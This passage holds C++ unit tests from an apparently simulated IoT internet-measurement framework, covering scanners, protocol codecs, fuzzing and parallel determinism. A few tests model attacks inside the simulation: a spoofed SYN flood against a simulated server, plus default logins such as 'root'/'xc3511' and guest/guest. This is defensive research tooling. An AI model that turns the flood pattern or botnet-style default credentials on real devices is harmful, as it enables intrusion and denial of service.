TEST(FlowTupleCsv, ExportsStardustColumns) {
  FlowTuple tuple;
  tuple.minute = 7;
  tuple.src = Ipv4Addr(1, 2, 3, 4);
  tuple.dst = Ipv4Addr(44, 0, 0, 1);
  tuple.src_port = 40'000;
  tuple.dst_port = 23;
  tuple.transport = net::Transport::kTcp;
  tuple.ttl = 64;
  tuple.tcp_flags = net::TcpFlags::kSyn;
  tuple.packet_count = 3;
  tuple.byte_count = 120;
  tuple.is_spoofed = true;
  const auto csv = flowtuples_to_csv({tuple});
  EXPECT_NE(csv.find("minute,src_ip,dst_ip"), std::string::npos);
  EXPECT_NE(csv.find("7,1.2.3.4,44.0.0.1,40000,23,tcp,64,1,3,120,1,0"),
            std::string::npos);
}

TEST(ExoneraTorTest, RelayLookups) {
  intel::ExoneraTor exonerator;
  EXPECT_FALSE(exonerator.was_relay(Ipv4Addr(1)));
  exonerator.add_relay(Ipv4Addr(1));
  EXPECT_TRUE(exonerator.was_relay(Ipv4Addr(1)));
  EXPECT_EQ(exonerator.relay_count(), 1u);
}

}  // namespace
}  // namespace ofh::telescope
