// Failure injection: packet loss, churn, floods and malformed input. The
// pipeline must degrade gracefully — scans lose coverage proportionally to
// loss, never crash, and codecs reject every mutated frame without reading
// out of bounds.
#include <gtest/gtest.h>

#include "classify/misconfig_rules.h"
#include "devices/device.h"
#include "proto/coap.h"
#include "proto/mqtt.h"
#include "proto/smb.h"
#include "scanner/scanner.h"
#include "test_helpers.h"

namespace ofh {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

// ---------------------------------------------------------- loss sweeps

class LossSweep : public ::testing::TestWithParam<double> {};

TEST_P(LossSweep, ScanCoverageDegradesGracefully) {
  const double loss = GetParam();
  sim::Simulation sim;
  net::Fabric fabric(sim, 3);
  fabric.set_loss_rate(loss);

  std::vector<std::unique_ptr<devices::Device>> hosts;
  for (int i = 1; i <= 60; ++i) {
    devices::DeviceSpec spec;
    spec.address = Ipv4Addr(10, 3, 0, static_cast<std::uint8_t>(i));
    spec.primary = proto::Protocol::kMqtt;
    spec.misconfig = devices::Misconfig::kMqttNoAuth;
    hosts.push_back(std::make_unique<devices::Device>(std::move(spec)));
    hosts.back()->attach(fabric);
  }

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric);
  scanner::ScanConfig config;
  config.protocol = proto::Protocol::kMqtt;
  config.targets = {*util::Cidr::parse("10.3.0.0/24")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  while (!done && sim.step()) {
  }
  ASSERT_TRUE(done);  // the sweep always terminates

  const double found = static_cast<double>(
      db.unique_hosts(proto::Protocol::kMqtt));
  if (loss == 0.0) {
    EXPECT_EQ(found, 60);
  } else if (loss >= 1.0) {
    EXPECT_EQ(found, 0);
  } else {
    // Coverage roughly (1-loss)^k for the handshake+banner packet chain;
    // just require monotone sanity bounds.
    EXPECT_GT(found, 0);
    EXPECT_LT(found, 60);
  }
}

INSTANTIATE_TEST_SUITE_P(Rates, LossSweep,
                         ::testing::Values(0.0, 0.05, 0.3, 1.0));

// ------------------------------------------------------------- churn

class ChurnTest : public SimTest {};

TEST_F(ChurnTest, HostDetachingMidScanDoesNotCrash) {
  auto device = std::make_unique<devices::Device>([] {
    devices::DeviceSpec spec;
    spec.address = Ipv4Addr(10, 4, 0, 1);
    spec.primary = proto::Protocol::kTelnet;
    spec.misconfig = devices::Misconfig::kTelnetNoAuth;
    return spec;
  }());
  device->attach(fabric_);

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric_);
  scanner::ScanConfig config;
  config.protocol = proto::Protocol::kTelnet;
  config.targets = {*util::Cidr::parse("10.4.0.0/28")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });

  // Yank the device shortly after the sweep starts.
  sim_.after(sim::msec(30), [&device] { device->detach(); });
  while (!done && sim_.step()) {
  }
  EXPECT_TRUE(done);
}

TEST_F(ChurnTest, SynFloodExhaustsBacklogThenRecovers) {
  PlainHost server(Ipv4Addr(10, 5, 0, 1));
  server.attach(fabric_);
  server.tcp().set_backlog_limit(8);
  server.tcp().listen(80, [](net::TcpConnection&) {});

  PlainHost attacker(Ipv4Addr(10, 5, 0, 2));
  attacker.attach(fabric_);
  // Spoofed SYNs never complete the handshake; they pin half-open slots.
  for (int i = 0; i < 64; ++i) {
    net::Packet syn;
    syn.src = Ipv4Addr(66, 0, 0, static_cast<std::uint8_t>(i + 1));
    syn.dst = server.address();
    syn.src_port = 1'000;
    syn.dst_port = 80;
    syn.transport = net::Transport::kTcp;
    syn.tcp_flags = net::TcpFlags::kSyn;
    syn.spoofed_src = true;
    fabric_.send(std::move(syn));
  }
  run(sim::seconds(1));

  // A legitimate client is refused while the backlog is full.
  bool refused = false;
  PlainHost client(Ipv4Addr(10, 5, 0, 3));
  client.attach(fabric_);
  client.tcp().connect(server.address(), 80, [&refused](net::TcpConnection* c) {
    refused = c == nullptr;
  });
  run(sim::seconds(10));
  EXPECT_TRUE(refused);

  // Half-open entries are garbage-collected after 30s; service recovers.
  run(sim::minutes(1));
  bool accepted = false;
  client.tcp().connect(server.address(), 80, [&accepted](net::TcpConnection* c) {
    accepted = c != nullptr;
  });
  run(sim::seconds(10));
  EXPECT_TRUE(accepted);
}

// -------------------------------------------------------- codec fuzzing

// Deterministic mutation fuzz: valid frames with injected byte flips and
// truncations must never crash the decoders, and truncations must never
// decode successfully past the payload boundary.
template <typename Decoder>
void mutate_and_decode(const util::Bytes& valid, Decoder decode) {
  util::Rng rng(1234);
  for (int round = 0; round < 300; ++round) {
    util::Bytes mutated = valid;
    const int mutations = 1 + static_cast<int>(rng.below(4));
    for (int m = 0; m < mutations; ++m) {
      if (mutated.empty()) break;
      const auto index = rng.below(mutated.size());
      mutated[index] = static_cast<std::uint8_t>(rng.next());
    }
    if (rng.chance(0.4) && !mutated.empty()) {
      mutated.resize(rng.below(mutated.size()));
    }
    decode(mutated);  // must not crash
  }
}

TEST(CodecFuzz, CoapSurvivesMutation) {
  auto message = proto::coap::make_discovery_request(5);
  message.payload = util::to_bytes("</a>;rt=\"x\"");
  mutate_and_decode(proto::coap::encode(message), [](const util::Bytes& b) {
    (void)proto::coap::decode(b);
  });
}

TEST(CodecFuzz, MqttSurvivesMutation) {
  proto::mqtt::ConnectPacket connect;
  connect.client_id = "fuzz";
  connect.username = "u";
  connect.password = "p";
  mutate_and_decode(proto::mqtt::encode_connect(connect),
                    [](const util::Bytes& b) {
                      const auto header = proto::mqtt::decode_fixed_header(b);
                      if (!header) return;
                      if (b.size() <
                          header->header_size + header->remaining_length) {
                        return;
                      }
                      (void)proto::mqtt::decode_connect(
                          std::span<const std::uint8_t>(b).subspan(
                              header->header_size,
                              header->remaining_length));
                    });
}

TEST(CodecFuzz, SmbSurvivesMutation) {
  proto::smb::SmbFrame frame;
  frame.command = proto::smb::Command::kSessionSetup;
  frame.payload = util::to_bytes("payload-bytes-here");
  mutate_and_decode(proto::smb::encode_frame(frame),
                    [](const util::Bytes& b) {
                      std::size_t consumed = 0;
                      (void)proto::smb::decode_frame(b, &consumed);
                    });
}

TEST(CodecFuzz, ClassifierSurvivesArbitraryBanners) {
  util::Rng rng(99);
  for (int round = 0; round < 500; ++round) {
    scanner::ScanRecord record;
    record.host = Ipv4Addr(static_cast<std::uint32_t>(rng.next()));
    record.protocol = proto::scanned_protocols()[rng.below(6)];
    std::string banner;
    const auto length = rng.below(200);
    for (std::uint64_t i = 0; i < length; ++i) {
      banner.push_back(static_cast<char>(rng.next() & 0xff));
    }
    record.banner = std::move(banner);
    (void)classify::classify_misconfig(record);  // must not crash
  }
}

// ------------------------------------------------- malformed server input

class MalformedInputTest : public SimTest {};

TEST_F(MalformedInputTest, ServersSurviveGarbageStreams) {
  devices::DeviceSpec mqtt_spec;
  mqtt_spec.address = Ipv4Addr(10, 6, 0, 1);
  mqtt_spec.primary = proto::Protocol::kMqtt;
  mqtt_spec.misconfig = devices::Misconfig::kMqttNoAuth;
  devices::Device broker(std::move(mqtt_spec));
  broker.attach(fabric_);

  PlainHost client(Ipv4Addr(10, 6, 0, 2));
  client.attach(fabric_);
  util::Rng rng(5);
  for (int i = 0; i < 10; ++i) {
    util::Bytes garbage;
    for (int b = 0; b < 64; ++b) {
      garbage.push_back(static_cast<std::uint8_t>(rng.next()));
    }
    client.tcp().connect(broker.address(), 1883,
                         [garbage](net::TcpConnection* conn) mutable {
                           if (conn != nullptr) conn->send(std::move(garbage));
                         });
  }
  run(sim::minutes(1));
  // The broker is still serviceable afterwards.
  proto::mqtt::ConnectPacket connect;
  connect.client_id = "after";
  bool got_connack = false;
  client.tcp().connect(
      broker.address(), 1883,
      [&got_connack, connect](net::TcpConnection* conn) {
        ASSERT_NE(conn, nullptr);
        conn->on_data = [&got_connack](net::TcpConnection&,
                                       std::span<const std::uint8_t> data) {
          const auto header = proto::mqtt::decode_fixed_header(
              std::span<const std::uint8_t>(data));
          if (header && header->type == proto::mqtt::PacketType::kConnack) {
            got_connack = true;
          }
        };
        conn->send(proto::mqtt::encode_connect(connect));
      });
  run(sim::minutes(1));
  EXPECT_TRUE(got_connack);
}

}  // namespace
}  // namespace ofh
