// The deterministic parallel execution layer: ThreadPool mechanics,
// ParallelRunner ordering, the (time, shard, seq) merge, and the headline
// property — same seed, serial vs 1/2/8-thread study scans produce
// byte-identical ScanDB contents and rendered report tables.
#include <gtest/gtest.h>

#include <atomic>
#include <functional>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "core/reports.h"
#include "core/study.h"
#include "sim/parallel.h"
#include "util/thread_pool.h"

namespace ofh {
namespace {

// ------------------------------------------------------------- thread pool

TEST(ThreadPool, RunsEverySubmittedTask) {
  util::ThreadPool pool(4);
  std::atomic<int> count{0};
  for (int i = 0; i < 200; ++i) {
    pool.submit([&count] { count.fetch_add(1, std::memory_order_relaxed); });
  }
  pool.wait_idle();
  EXPECT_EQ(count.load(), 200);
}

TEST(ThreadPool, WaitIdleIsASynchronizationPoint) {
  // Plain (non-atomic) writes: wait_idle() must establish the
  // happens-before edge that makes reading them back race-free. TSan
  // verifies this under the tsan preset.
  util::ThreadPool pool(3);
  std::vector<int> results(64, 0);
  for (int i = 0; i < 64; ++i) {
    pool.submit([&results, i] { results[i] = i * i; });
  }
  pool.wait_idle();
  for (int i = 0; i < 64; ++i) EXPECT_EQ(results[i], i * i);
}

TEST(ThreadPool, ZeroRequestedThreadsStillRuns) {
  util::ThreadPool pool(0);
  EXPECT_EQ(pool.size(), 1u);
  bool ran = false;
  pool.submit([&ran] { ran = true; });
  pool.wait_idle();
  EXPECT_TRUE(ran);
}

// --------------------------------------------------------- parallel runner

TEST(ParallelRunner, ResultsAreInJobIndexOrderForAnyThreadCount) {
  for (const unsigned threads : {1u, 2u, 8u}) {
    std::vector<std::function<int()>> jobs;
    for (int i = 0; i < 16; ++i) jobs.emplace_back([i] { return i * 7; });
    const auto results = sim::ParallelRunner(threads).run(std::move(jobs));
    ASSERT_EQ(results.size(), 16u) << threads;
    for (int i = 0; i < 16; ++i) EXPECT_EQ(results[i], i * 7) << threads;
  }
}

TEST(ParallelRunner, ShardSeedsAreDistinctAndDecorrelated) {
  std::set<std::uint64_t> seeds;
  for (std::uint64_t i = 0; i < 64; ++i) {
    seeds.insert(sim::shard_seed(42, i));
  }
  EXPECT_EQ(seeds.size(), 64u);          // no collisions
  EXPECT_EQ(seeds.count(42), 0u);        // never the base seed itself
  EXPECT_NE(sim::shard_seed(42, 0), sim::shard_seed(43, 0));
}

TEST(MergeByTime, OrdersByTimeThenShardThenSeq) {
  struct Item {
    sim::Time when;
    int shard;
    int seq;
  };
  std::vector<std::vector<Item>> shards = {
      {{10, 0, 0}, {20, 0, 1}},
      {{10, 1, 0}, {15, 1, 1}},
  };
  const auto merged = sim::merge_by_time(
      std::move(shards), [](const Item& item) { return item.when; });
  ASSERT_EQ(merged.size(), 4u);
  // Tie at t=10 resolves to the lower shard index; within shards original
  // order is preserved.
  EXPECT_EQ(merged[0].shard, 0);
  EXPECT_EQ(merged[1].shard, 1);
  EXPECT_EQ(merged[2].when, 15u);
  EXPECT_EQ(merged[3].when, 20u);
}

// ----------------------------------------------- study scan determinism

std::string serialize(const scanner::ScanDb& db) {
  std::ostringstream out;
  for (const auto& record : db.records()) {
    out << record.host.value() << '|' << record.port << '|'
        << static_cast<int>(record.protocol) << '|' << record.when << '|'
        << record.banner << '\n';
  }
  out << "probes=" << db.probes_sent();
  return out.str();
}

core::StudyConfig scan_config(unsigned threads) {
  core::StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 16'384;
  config.scan_threads = threads;
  return config;
}

TEST(ParallelScan, SerialAndParallelRunsAreByteIdentical) {
  core::Study serial(scan_config(1));
  serial.setup_internet();
  serial.run_scan();
  serial.run_datasets();
  const std::string reference = serialize(serial.scan_db());
  const std::string table4 = core::report_table4_exposed(serial);
  const std::string table5 = core::report_table5_misconfigured(serial);
  // Snapshot the observability exports NOW: constructing the next Study
  // resets the process-wide registries (metrics and traces).
  const std::string metrics_prometheus = serial.metrics_prometheus();
  const std::string metrics_csv = serial.metrics_csv();
  const std::string trace_json = serial.trace_json();
  const std::string attack_chains = serial.attack_chains();
  ASSERT_GT(serial.scan_db().size(), 0u);
#ifndef OFH_NO_METRICS
  ASSERT_FALSE(metrics_prometheus.empty());
  ASSERT_FALSE(metrics_csv.empty());
  // The serial scan leaves a real trace (probes, packets, verdicts).
  ASSERT_NE(trace_json.find("\"cat\":\"probe\""), std::string::npos);
  ASSERT_NE(trace_json.find("\"name\":\"verdict\""), std::string::npos);
#endif

  for (const unsigned threads : {2u, 8u, 0u}) {  // 0 = hardware concurrency
    core::Study study(scan_config(threads));
    study.setup_internet();
    study.run_scan();
    study.run_datasets();
    EXPECT_EQ(serialize(study.scan_db()), reference)
        << "scan_threads=" << threads;
    // Capacity stability: run_scan reserves the exact merged record count
    // before the fold, so the arena never grew past one allocation — the
    // capacity equals the size instead of a geometric overshoot.
    EXPECT_EQ(study.scan_db().records_capacity(), study.scan_db().size())
        << "scan_threads=" << threads;
    // The deterministic telemetry exports are byte-identical too: every
    // Domain::kSim cell is an order-independent sum over identical
    // per-shard work, and wall-domain metrics never reach these exports.
    EXPECT_EQ(study.metrics_prometheus(), metrics_prometheus)
        << "scan_threads=" << threads;
    EXPECT_EQ(study.metrics_csv(), metrics_csv)
        << "scan_threads=" << threads;
    // The causal trace is byte-identical too: events are recorded per
    // deterministic *shard* (not per thread), stamped with sim-time and a
    // per-shard seq, and merged in (time, shard, seq) total order.
    EXPECT_EQ(study.trace_json(), trace_json)
        << "scan_threads=" << threads;
    EXPECT_EQ(study.attack_chains(), attack_chains)
        << "scan_threads=" << threads;
    EXPECT_EQ(core::report_table4_exposed(study), table4)
        << "scan_threads=" << threads;
    EXPECT_EQ(core::report_table5_misconfigured(study), table5)
        << "scan_threads=" << threads;
    EXPECT_EQ(study.findings().size(), serial.findings().size());
    EXPECT_EQ(study.scan_dates(), serial.scan_dates());
  }
}

}  // namespace
}  // namespace ofh
