// Wire-codec tests: encode/decode round trips, malformed-input rejection and
// framing edge cases for every protocol codec.
#include <gtest/gtest.h>

#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/http.h"
#include "proto/modbus.h"
#include "proto/mqtt.h"
#include "proto/s7.h"
#include "proto/smb.h"
#include "proto/ssdp.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "proto/xmpp.h"

namespace ofh::proto {
namespace {

// ----------------------------------------------------------------- telnet

TEST(TelnetCodec, SplitsTextAndNegotiations) {
  const util::Bytes data = {0xff, 0xfd, 0x1f, 'l', 'o', 'g', 'i', 'n', ':'};
  const auto decoded = telnet::decode(data);
  ASSERT_EQ(decoded.negotiations.size(), 1u);
  EXPECT_EQ(decoded.negotiations[0].verb, telnet::kDo);
  EXPECT_EQ(decoded.negotiations[0].option, telnet::kOptNaws);
  EXPECT_EQ(decoded.text, "login:");
}

TEST(TelnetCodec, UnescapesDoubledIac) {
  const util::Bytes data = {'a', 0xff, 0xff, 'b'};
  const auto decoded = telnet::decode(data);
  EXPECT_EQ(decoded.text, std::string("a\xff") + "b");
}

TEST(TelnetCodec, SkipsSubnegotiation) {
  const util::Bytes data = {0xff, telnet::kSb, 24, 1, 2, 3,
                            0xff, telnet::kSe, 'x'};
  const auto decoded = telnet::decode(data);
  EXPECT_EQ(decoded.text, "x");
  EXPECT_TRUE(decoded.negotiations.empty());
}

TEST(TelnetCodec, EncodeRoundTrip) {
  const std::vector<telnet::Negotiation> negotiations = {
      {telnet::kWill, telnet::kOptEcho}, {telnet::kDo, telnet::kOptSga}};
  const auto encoded = telnet::encode_negotiation(negotiations);
  const auto decoded = telnet::decode(encoded);
  EXPECT_EQ(decoded.negotiations.size(), 2u);
  EXPECT_EQ(decoded.negotiations[0].verb, telnet::kWill);
  EXPECT_EQ(decoded.negotiations[1].option, telnet::kOptSga);
}

TEST(TelnetCodec, RefuseAllMapsVerbs) {
  const std::vector<telnet::Negotiation> received = {
      {telnet::kDo, 1}, {telnet::kWill, 3}, {telnet::kWont, 5}};
  const auto replies = telnet::refuse_all(received);
  ASSERT_EQ(replies.size(), 2u);
  EXPECT_EQ(replies[0].verb, telnet::kWont);
  EXPECT_EQ(replies[1].verb, telnet::kDont);
}

TEST(TelnetCodec, TruncatedNegotiationIsDropped) {
  const util::Bytes data = {'o', 'k', 0xff, 0xfd};  // IAC DO, option missing
  const auto decoded = telnet::decode(data);
  EXPECT_EQ(decoded.text, "ok");
  EXPECT_TRUE(decoded.negotiations.empty());
}

// ------------------------------------------------------------------- mqtt

TEST(MqttCodec, FixedHeaderVarintLengths) {
  // remaining length 321 = 0xC1 0x02
  const util::Bytes data = {0x30, 0xc1, 0x02, 0x00};
  const auto header = mqtt::decode_fixed_header(data);
  ASSERT_TRUE(header);
  EXPECT_EQ(header->type, mqtt::PacketType::kPublish);
  EXPECT_EQ(header->remaining_length, 321u);
  EXPECT_EQ(header->header_size, 3u);
}

TEST(MqttCodec, FixedHeaderRejectsOverlongVarint) {
  const util::Bytes data = {0x30, 0x80, 0x80, 0x80, 0x80, 0x01};
  EXPECT_FALSE(mqtt::decode_fixed_header(data));
}

TEST(MqttCodec, FixedHeaderRejectsReservedTypes) {
  const util::Bytes zero = {0x00, 0x00};
  const util::Bytes fifteen = {0xf0, 0x00};
  EXPECT_FALSE(mqtt::decode_fixed_header(zero));
  EXPECT_FALSE(mqtt::decode_fixed_header(fifteen));
}

TEST(MqttCodec, ConnectRoundTrip) {
  mqtt::ConnectPacket packet;
  packet.client_id = "sensor-1";
  packet.username = "user";
  packet.password = "pass";
  packet.keep_alive = 30;
  const auto encoded = mqtt::encode_connect(packet);
  const auto header = mqtt::decode_fixed_header(encoded);
  ASSERT_TRUE(header);
  ASSERT_EQ(header->type, mqtt::PacketType::kConnect);
  const auto decoded = mqtt::decode_connect(
      std::span<const std::uint8_t>(encoded).subspan(header->header_size));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->client_id, "sensor-1");
  EXPECT_EQ(decoded->username, "user");
  EXPECT_EQ(decoded->password, "pass");
  EXPECT_EQ(decoded->keep_alive, 30);
}

TEST(MqttCodec, ConnectWithoutCredentials) {
  mqtt::ConnectPacket packet;
  packet.client_id = "anon";
  const auto encoded = mqtt::encode_connect(packet);
  const auto header = mqtt::decode_fixed_header(encoded);
  const auto decoded = mqtt::decode_connect(
      std::span<const std::uint8_t>(encoded).subspan(header->header_size));
  ASSERT_TRUE(decoded);
  EXPECT_FALSE(decoded->username);
  EXPECT_FALSE(decoded->password);
}

TEST(MqttCodec, ConnackCodes) {
  for (int code = 0; code <= 5; ++code) {
    const auto encoded =
        mqtt::encode_connack(static_cast<mqtt::ConnectCode>(code));
    const auto header = mqtt::decode_fixed_header(encoded);
    ASSERT_TRUE(header);
    const auto decoded = mqtt::decode_connack(
        std::span<const std::uint8_t>(encoded).subspan(header->header_size));
    ASSERT_TRUE(decoded);
    EXPECT_EQ(static_cast<int>(*decoded), code);
  }
}

TEST(MqttCodec, PublishRoundTrip) {
  mqtt::PublishPacket packet;
  packet.topic = "a/b/c";
  packet.payload = util::to_bytes("value");
  packet.retain = true;
  const auto encoded = mqtt::encode_publish(packet);
  const auto header = mqtt::decode_fixed_header(encoded);
  ASSERT_TRUE(header);
  EXPECT_EQ(header->flags & 0x01, 0x01);
  const auto decoded = mqtt::decode_publish(
      std::span<const std::uint8_t>(encoded).subspan(header->header_size),
      header->flags);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->topic, "a/b/c");
  EXPECT_EQ(util::to_string(decoded->payload), "value");
  EXPECT_TRUE(decoded->retain);
}

TEST(MqttCodec, SubscribeRoundTrip) {
  mqtt::SubscribePacket packet;
  packet.packet_id = 7;
  packet.topic_filters = {"$SYS/#", "home/+/temp"};
  const auto encoded = mqtt::encode_subscribe(packet);
  const auto header = mqtt::decode_fixed_header(encoded);
  const auto decoded = mqtt::decode_subscribe(
      std::span<const std::uint8_t>(encoded).subspan(header->header_size));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->packet_id, 7);
  EXPECT_EQ(decoded->topic_filters,
            (std::vector<std::string>{"$SYS/#", "home/+/temp"}));
}

struct TopicCase {
  const char* filter;
  const char* topic;
  bool matches;
};

class TopicMatch : public ::testing::TestWithParam<TopicCase> {};

TEST_P(TopicMatch, MatchesPerSpec) {
  const auto& param = GetParam();
  EXPECT_EQ(mqtt::topic_matches(param.filter, param.topic), param.matches)
      << param.filter << " vs " << param.topic;
}

INSTANTIATE_TEST_SUITE_P(
    Wildcards, TopicMatch,
    ::testing::Values(TopicCase{"a/b", "a/b", true},
                      TopicCase{"a/b", "a/c", false},
                      TopicCase{"a/+", "a/b", true},
                      TopicCase{"a/+", "a/b/c", false},
                      TopicCase{"a/#", "a/b/c", true},
                      TopicCase{"#", "anything/at/all", true},
                      TopicCase{"a/+/c", "a/b/c", true},
                      TopicCase{"a/+/c", "a/b/d", false},
                      TopicCase{"$SYS/#", "$SYS/broker/version", true},
                      TopicCase{"a/b", "a", false},
                      TopicCase{"a", "a/b", false}));

// ------------------------------------------------------------------- coap

TEST(CoapCodec, HeaderRoundTrip) {
  coap::Message message;
  message.type = coap::Type::kConfirmable;
  message.code = coap::Code::kGet;
  message.message_id = 0x1234;
  message.token = {0xaa, 0xbb};
  message.set_uri_path("/.well-known/core");
  const auto encoded = coap::encode(message);
  const auto decoded = coap::decode(encoded);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->type, coap::Type::kConfirmable);
  EXPECT_EQ(decoded->code, coap::Code::kGet);
  EXPECT_EQ(decoded->message_id, 0x1234);
  EXPECT_EQ(decoded->token, (util::Bytes{0xaa, 0xbb}));
  EXPECT_EQ(decoded->uri_path(), "/.well-known/core");
}

TEST(CoapCodec, PayloadMarker) {
  coap::Message message;
  message.code = coap::Code::kContent;
  message.payload = util::to_bytes("</sensors>");
  const auto decoded = coap::decode(coap::encode(message));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(util::to_string(decoded->payload), "</sensors>");
}

TEST(CoapCodec, RejectsBadVersion) {
  util::Bytes data = {0x80, 0x01, 0x00, 0x01};  // version 2
  EXPECT_FALSE(coap::decode(data));
}

TEST(CoapCodec, RejectsTruncated) {
  EXPECT_FALSE(coap::decode(util::Bytes{0x40}));
  EXPECT_FALSE(coap::decode(util::Bytes{}));
}

TEST(CoapCodec, RejectsMarkerWithoutPayload) {
  coap::Message message;
  auto encoded = coap::encode(message);
  encoded.push_back(0xff);  // marker then nothing
  EXPECT_FALSE(coap::decode(encoded));
}

TEST(CoapCodec, LongOptionValuesUseExtendedLength) {
  coap::Message message;
  message.code = coap::Code::kGet;
  coap::Option option;
  option.number = coap::kOptionUriPath;
  option.value = util::Bytes(300, 'a');  // needs the 14 nibble
  message.options.push_back(option);
  const auto decoded = coap::decode(coap::encode(message));
  ASSERT_TRUE(decoded);
  ASSERT_EQ(decoded->options.size(), 1u);
  EXPECT_EQ(decoded->options[0].value.size(), 300u);
}

TEST(CoapCodec, OptionDeltaOrdering) {
  coap::Message message;
  message.options.push_back({coap::kOptionContentFormat, {40}});
  message.options.push_back(
      {coap::kOptionUriPath, util::to_bytes("x")});  // lower number
  const auto decoded = coap::decode(coap::encode(message));
  ASSERT_TRUE(decoded);
  ASSERT_EQ(decoded->options.size(), 2u);
  // Encoder must have sorted by option number for delta encoding.
  EXPECT_EQ(decoded->options[0].number, coap::kOptionUriPath);
  EXPECT_EQ(decoded->options[1].number, coap::kOptionContentFormat);
}

// ------------------------------------------------------------------- amqp

TEST(AmqpCodec, ProtocolHeader) {
  const auto header = amqp::protocol_header();
  EXPECT_TRUE(amqp::is_protocol_header(header));
  EXPECT_FALSE(amqp::is_protocol_header(util::to_bytes("HTTP/1.1")));
}

TEST(AmqpCodec, FrameRoundTrip) {
  amqp::Frame frame;
  frame.type = amqp::FrameType::kMethod;
  frame.channel = 3;
  frame.payload = util::to_bytes("payload");
  std::size_t consumed = 0;
  const auto decoded = amqp::decode_frame(amqp::encode_frame(frame), &consumed);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->channel, 3);
  EXPECT_EQ(util::to_string(decoded->payload), "payload");
  EXPECT_EQ(consumed, 7u + 7u + 1u);
}

TEST(AmqpCodec, FrameRejectsBadEndMarker) {
  amqp::Frame frame;
  frame.payload = util::to_bytes("x");
  auto encoded = amqp::encode_frame(frame);
  encoded.back() = 0x00;  // corrupt frame-end octet
  EXPECT_FALSE(amqp::decode_frame(encoded, nullptr));
}

TEST(AmqpCodec, StartRoundTrip) {
  amqp::StartMethod start;
  start.product = "RabbitMQ";
  start.version = "2.7.1";
  start.mechanisms = {"PLAIN", "ANONYMOUS"};
  const auto decoded = amqp::decode_start(amqp::encode_start(start));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->product, "RabbitMQ");
  EXPECT_EQ(decoded->version, "2.7.1");
  EXPECT_EQ(decoded->mechanisms,
            (std::vector<std::string>{"PLAIN", "ANONYMOUS"}));
}

TEST(AmqpCodec, StartOkRoundTrip) {
  amqp::StartOkMethod ok{"PLAIN", "guest", "guest"};
  const auto decoded = amqp::decode_start_ok(amqp::encode_start_ok(ok));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->mechanism, "PLAIN");
  EXPECT_EQ(decoded->user, "guest");
}

TEST(AmqpCodec, StartRejectsWrongMethod) {
  amqp::StartOkMethod ok{"PLAIN", "u", "p"};
  EXPECT_FALSE(amqp::decode_start(amqp::encode_start_ok(ok)));
}

// ------------------------------------------------------------------- ssdp

TEST(SsdpCodec, MSearchRoundTrip) {
  ssdp::MSearch request;
  request.search_target = "upnp:rootdevice";
  request.mx = 2;
  const auto decoded = ssdp::decode_msearch(ssdp::encode_msearch(request));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->search_target, "upnp:rootdevice");
  EXPECT_EQ(decoded->mx, 2);
}

TEST(SsdpCodec, MSearchRequiresManHeader) {
  EXPECT_FALSE(ssdp::decode_msearch(util::to_bytes("M-SEARCH * HTTP/1.1\r\n\r\n")));
  EXPECT_FALSE(ssdp::decode_msearch(util::to_bytes("GET / HTTP/1.1\r\n\r\n")));
}

TEST(SsdpCodec, ResponseRoundTrip) {
  ssdp::SearchResponse response;
  response.usn = "uuid:abc::upnp:rootdevice";
  response.server = "Ubuntu/lucid UPnP/1.0 MiniUPnPd/1.4";
  response.location = "http://192.0.2.1:16537/rootDesc.xml";
  response.extra["Model Name"] = "H108N";
  const auto decoded = ssdp::decode_response(ssdp::encode_response(response));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->usn, "uuid:abc::upnp:rootdevice");
  EXPECT_EQ(decoded->server, "Ubuntu/lucid UPnP/1.0 MiniUPnPd/1.4");
  EXPECT_EQ(decoded->extra.at("model name"), "H108N");
}

// ------------------------------------------------------------------- xmpp

TEST(XmppCodec, ExtractElement) {
  const std::string xml = "<a><b>inner</b></a>";
  EXPECT_EQ(xmpp::extract_element(xml, "b"), "inner");
  EXPECT_FALSE(xmpp::extract_element(xml, "c"));
}

TEST(XmppCodec, ExtractAllElements) {
  const std::string xml = "<m>PLAIN</m><m>ANONYMOUS</m>";
  const auto all = xmpp::extract_all_elements(xml, "m");
  EXPECT_EQ(all, (std::vector<std::string>{"PLAIN", "ANONYMOUS"}));
}

TEST(XmppCodec, ExtractAttribute) {
  const std::string xml = "<auth mechanism='PLAIN'>x</auth>";
  EXPECT_EQ(xmpp::extract_attribute(xml, "auth", "mechanism"), "PLAIN");
  const std::string xml2 = "<auth mechanism=\"ANONYMOUS\"/>";
  EXPECT_EQ(xmpp::extract_attribute(xml2, "auth", "mechanism"), "ANONYMOUS");
  EXPECT_FALSE(xmpp::extract_attribute(xml, "auth", "missing"));
}

TEST(XmppCodec, FeaturesAdvertiseMechanisms) {
  const auto features = xmpp::stream_features({"PLAIN", "ANONYMOUS"}, false);
  EXPECT_NE(features.find("<mechanism>PLAIN</mechanism>"), std::string::npos);
  EXPECT_NE(features.find("<mechanism>ANONYMOUS</mechanism>"),
            std::string::npos);
  EXPECT_EQ(features.find("<required/>"), std::string::npos);
  const auto strict = xmpp::stream_features({"SCRAM-SHA-1"}, true);
  EXPECT_NE(strict.find("<required/>"), std::string::npos);
}

// -------------------------------------------------------------------- ssh

TEST(SshCodec, AuthRoundTrip) {
  const auto encoded = ssh::encode_auth("root", "xc3511");
  const auto decoded = ssh::decode_auth(util::to_string(encoded));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->user, "root");
